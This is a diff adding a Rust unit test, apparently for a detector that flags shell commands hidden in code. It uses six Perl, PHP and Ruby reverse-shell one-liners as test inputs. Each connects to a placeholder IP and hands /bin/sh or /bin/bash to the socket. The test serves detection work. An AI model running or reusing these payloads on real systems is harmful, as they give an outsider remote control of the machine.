@@ -122,6 +122,48 @@ fn network_code_evaluated_is_receive_and_run() {
 }
 
 #[test]
+fn sockets_bound_to_the_standard_streams_are_reverse_shells() {
+    for (code, lang) in [
+        (
+            "use IO::Socket::INET; $s=IO::Socket::INET->new(\"203.0.113.9:9001\");STDIN->fdopen($s,r);$~->fdopen($s,w);system$_ while<>;",
+            Language::Perl,
+        ),
+        (
+            "use Socket; socket(S,PF_INET,SOCK_STREAM,getprotobyname('tcp')); connect(S,sockaddr_in(4444,inet_aton('198.51.100.3'))); open(STDIN,'>&S'); open(STDOUT,'>&S'); exec('/bin/sh -i');",
+            Language::Perl,
+        ),
+        (
+            "$p=fork;exit,if($p);$c=new IO::Socket::INET(PeerAddr,\"198.51.100.2:8080\");STDIN->fdopen($c,r);$~->fdopen($c,w);system$_ while<>;",
+            Language::Perl,
+        ),
+        (
+            "$sock=fsockopen('203.0.113.4',4444);exec('/bin/sh -i <&3 >&3 2>&3');",
+            Language::Php,
+        ),
+        (
+            "require 'socket'; s = TCPSocket.new('198.51.100.8', 7000); $stdin.reopen(s); $stdout.reopen(s); exec('/bin/sh -i')",
+            Language::Ruby,
+        ),
+        (
+            "use IO::Socket; $c = IO::Socket::INET->new('203.0.113.1:443'); open(STDIN, '<&', $c); open(STDOUT, '>&', $c); system('/bin/bash -i');",
+            Language::Perl,
+        ),
+    ] {
+        let got = commands(code, lang);
+        assert!(
+            got.iter().any(|c| c.contains("/dev/tcp/")),
+            "{code}: {got:?}"
+        );
+    }
+    // a client that only talks is not
+    let got = commands(
+        "use IO::Socket::INET; my $c = IO::Socket::INET->new('localhost:80'); print $c \"GET /\\r\\n\"; print <$c>;",
+        Language::Perl,
+    );
+    assert!(got.iter().all(|c| !c.contains("/dev/tcp/")), "{got:?}");
+}
+
+#[test]
 fn writes_into_a_shell_run() {
     let cases = [
         (
